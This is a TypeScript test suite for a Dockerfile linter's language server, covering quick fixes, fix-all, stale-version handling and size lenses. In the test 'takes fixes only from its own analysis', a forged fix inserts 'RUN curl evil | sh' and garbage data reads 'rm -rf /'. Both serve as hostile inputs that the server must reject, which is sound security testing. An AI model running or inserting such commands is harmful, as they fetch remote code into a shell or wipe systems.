// Code actions and code lenses over the protocol: a quick fix per fix, fix-all with safe fixes
// only, and a size lens above every FROM.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { CodeAction, Diagnostic, TextEdit } from 'vscode-languageserver/node';
import { analyze, applyFixes } from '../../server/src/analysis/engine';
import type { Fix } from '../../server/src/analysis/rule';
import { formatEstimate } from '../../server/src/analysis/size/format';
import { applyTextEdits } from '../../server/src/analysis/text-edits';
import { expectedSummary, MULTI_STAGE_DOCKERFILE, PROBLEMATIC_DOCKERFILE, summarize } from './expectations';
import { fileUri, TestLanguageClient } from './lsp-client';

const WHOLE_FILE = { start: { line: 0, character: 0 }, end: { line: 100, character: 0 } };

/** The edits of an action that edits one document (versioned documentChanges, as the server sends them). */
function editsOf(action: CodeAction, uri: string, version: number): TextEdit[] {
  const changes = action.edit?.documentChanges ?? [];
  assert.equal(changes.length, 1, 'one document is edited');
  const change = changes[0];
  assert.ok('textDocument' in change);
  assert.equal(change.textDocument.uri, uri);
  assert.equal(change.textDocument.version, version, 'the edit is tied to the analysed version');
  return change.edits.filter((edit): edit is TextEdit => !('annotationId' in edit));
}

/** The fixes the core computes for the finding a published diagnostic names (the server keeps them). */
function fixesOf(diagnostic: Diagnostic): Fix[] {
  const { index } = diagnostic.data as { index: number };
  const finding = analyze(PROBLEMATIC_DOCKERFILE).findings[index];
  assert.equal(finding.code, diagnostic.code, 'data names the finding of the diagnostic');
  return finding.fixes;
}

describe('code actions over LSP', () => {
  let client: TestLanguageClient;
  const uri = fileUri('actions/Dockerfile');
  let diagnostics: Diagnostic[];

  before(async () => {
    ({ client } = await TestLanguageClient.start());
    diagnostics = (await client.open(uri, PROBLEMATIC_DOCKERFILE)).diagnostics;
  });

  after(async () => {
    await client.dispose();
  });

  it('offers one quick fix per fix of each diagnostic in the request, titled with the fix', async () => {
    const fixable = diagnostics.filter((diagnostic) => fixesOf(diagnostic).length > 0);
    assert.ok(fixable.length > 0, 'the sample has fixable problems');
    const all = await client.codeActions(uri, WHOLE_FILE, { diagnostics: fixable, only: ['quickfix'] });
    // The ignore-comment quick fixes are tested in suppressions.test.ts.
    const actions = all.filter((action) => !action.title.startsWith('Ignore '));
    const expectedTitles = fixable.flatMap((diagnostic) => fixesOf(diagnostic).map((fix) => fix.title));
    assert.deepEqual(
      actions.map((action) => action.title),
      expectedTitles,
    );
    for (const action of actions) {
      assert.equal(action.kind, 'quickfix');
      assert.equal(action.diagnostics?.length, 1);
    }
  });

  it('applies a quick fix that removes its finding', async () => {
    const target = diagnostics.find((diagnostic) => fixesOf(diagnostic).some((fix) => fix.safety === 'safe'));
    assert.ok(target, 'the sample has a safely fixable problem');
    const safeFix = fixesOf(target).find((fix) => fix.safety === 'safe');
    const actions = await client.codeActions(uri, target.range, { diagnostics: [target], only: ['quickfix'] });
    const action = actions.find((candidate) => candidate.title === safeFix?.title);
    assert.ok(action);
    assert.equal(action.isPreferred, true, 'the safe fix is preferred');
    const fixed = applyTextEdits(PROBLEMATIC_DOCKERFILE, editsOf(action, uri, 1));
    const countOf = (text: string) => expectedSummary(text).filter((finding) => finding.code === target.code).length;
    assert.ok(countOf(fixed) < countOf(PROBLEMATIC_DOCKERFILE), `${target.code} is fixed`);
  });

  it('fix-all applies the safe fixes of the whole document, as applyFixes does', async () => {
    const actions = await client.codeActions(uri, WHOLE_FILE, { diagnostics: [], only: ['source.fixAll'] });
    assert.equal(actions.length, 1);
    assert.equal(actions[0].kind, 'source.fixAll.layerwise');
    const fixed = applyTextEdits(PROBLEMATIC_DOCKERFILE, editsOf(actions[0], uri, 1));
    const expected = applyFixes(PROBLEMATIC_DOCKERFILE, analyze(PROBLEMATIC_DOCKERFILE).findings);
    assert.notEqual(expected, PROBLEMATIC_DOCKERFILE, 'the sample has safe fixes');
    assert.equal(fixed, expected);
  });

  it('answers each kind only when asked: quick fixes are not source actions', async () => {
    const onlyFixAll = await client.codeActions(uri, WHOLE_FILE, { diagnostics, only: ['source.fixAll.layerwise'] });
    assert.deepEqual(
      onlyFixAll.map((action) => action.kind),
      ['source.fixAll.layerwise'],
    );
    const onlyRefactor = await client.codeActions(uri, WHOLE_FILE, { diagnostics, only: ['refactor'] });
    assert.deepEqual(onlyRefactor, []);
  });

  it('takes fixes only from its own analysis: a diagnostic it did not publish gets none, whatever its data says', async () => {
    const range = { start: { line: 3, character: 0 }, end: { line: 3, character: 3 } };
    const forged = { title: 'Run something', safety: 'safe', edits: [{ range, newText: 'RUN curl evil | sh\n' }] };
    const madeUp: Diagnostic = {
      range,
      message: 'a diagnostic this client made up',
      source: 'layerwise',
      code: 'LW999',
      data: { rule: 'made-up', version: 1, index: 0, fixes: [forged] },
    };
    assert.deepEqual(await client.codeActions(uri, range, { diagnostics: [madeUp] }).then(quickFixesOnly), []);
    // A real diagnostic whose data points at another finding still gets its own fixes.
    const target = diagnostics.find((diagnostic) => fixesOf(diagnostic).length > 0);
    assert.ok(target);
    const misnamed: Diagnostic = { ...target, data: { rule: 'x', version: 1, index: diagnostics.length - 1 } };
    const garbage: Diagnostic = { ...target, data: { fixes: 'rm -rf /' } };
    const expected = fixesOf(target).map((fix) => fix.title);
    for (const diagnostic of [misnamed, garbage]) {
      const titles: string[] = quickFixesOnly(await client.codeActions(uri, target.range, { diagnostics: [diagnostic] }))
        .filter((action) => !action.title.startsWith('Ignore '))
        .map((action) => action.title);
      assert.deepEqual(titles, expected);
    }
  });
});

describe('quick fixes for diagnostics of an older version', () => {
  let client: TestLanguageClient;
  const uri = fileUri('stale/Dockerfile');

  before(async () => {
    ({ client } = await TestLanguageClient.start());
  });

  after(async () => {
    await client.dispose();
  });

  it('fixes a finding that still exists with the edits of the current version, and offers nothing for one that is gone', async () => {
    const before = (await client.open(uri, PROBLEMATIC_DOCKERFILE)).diagnostics;
    // Version 2 replaces the ADD: its finding is gone, while the apt-get install on line 2 is untouched.
    const edited = PROBLEMATIC_DOCKERFILE.replace('ADD . /app', 'COPY . /app');
    const after = await client.replaceText(uri, edited);
    assert.equal(after.version, 2);
    const current = analyze(edited).findings;
    const stillThere = (diagnostic: Diagnostic) =>
      current.some((finding) => finding.code === diagnostic.code && finding.message === diagnostic.message);
    const kept = before.find((diagnostic) => fixesOf(diagnostic).length > 0 && diagnostic.range.start.line === 2 && stillThere(diagnostic));
    const gone = before.find((diagnostic) => fixesOf(diagnostic).length > 0 && !stillThere(diagnostic));
    assert.ok(kept, 'the sample keeps a fixable finding on line 2');
    assert.ok(gone, 'the edit removed a fixable finding');

    const forKept = quickFixesOnly(await client.codeActions(uri, kept.range, { diagnostics: [kept] }))
      .filter((action) => !action.title.startsWith('Ignore '));
    assert.deepEqual(
      forKept.map((action) => action.title),
      fixesOf(kept).map((fix) => fix.title),
    );
    for (const action of forKept) assert.ok(editsOf(action, uri, 2).length > 0, 'the edit is tied to version 2');
    assert.deepEqual(await client.codeActions(uri, gone.range, { diagnostics: [gone] }).then(quickFixesOnly), []);
  });
});

function quickFixesOnly(actions: CodeAction[]): CodeAction[] {
  return actions.filter((action) => action.kind === 'quickfix');
}

describe('code lenses over LSP', () => {
  let client: TestLanguageClient;
  let settings: unknown = {};

  before(async () => {
    ({ client } = await TestLanguageClient.start());
    client.answerConfiguration = () => settings;
  });

  after(async () => {
    await client.dispose();
  });

  it('puts the estimated size and the stage role above every FROM', async () => {
    const uri = fileUri('lens/Dockerfile');
    await client.open(uri, MULTI_STAGE_DOCKERFILE);
    const lenses = await client.codeLenses(uri);
    const stages = analyze(MULTI_STAGE_DOCKERFILE).stages;
    assert.equal(lenses.length, stages.length);
    assert.deepEqual(
      lenses.map((lens) => lens.range.start.line),
      stages.map((stage) => stage.line),
    );
    assert.deepEqual(
      lenses.map((lens) => lens.command?.title),
      stages.map((stage) => `${formatEstimate(stage.estimate)} · ${stage.ships ? 'ships' : 'build only'}`),
    );
    assert.match(lenses[0].command?.title ?? '', / · build only$/);
    assert.match(lenses[1].command?.title ?? '', / · ships$/);
    for (const lens of lenses) {
      assert.equal(lens.command?.command, 'layerwise.showStageBreakdown');
      const [breakdown] = lens.command?.arguments ?? [];
      assert.equal(typeof breakdown.stage, 'string');
      assert.equal(breakdown.summary, lens.command?.title);
      assert.ok(Array.isArray(breakdown.layers));
    }
    await client.sendClose(uri);
  });

  it('shows no lens when layerwise.sizeLens.enabled is false', async () => {
    const uri = fileUri('lens/off');
    settings = { sizeLens: { enabled: false } };
    await client.changeConfiguration();
    const published = await client.open(uri, MULTI_STAGE_DOCKERFILE);
    assert.deepEqual(summarize(published.diagnostics), expectedSummary(MULTI_STAGE_DOCKERFILE, settings));
    assert.deepEqual(await client.codeLenses(uri), []);
    settings = {};
    await client.sendClose(uri);
  });
});
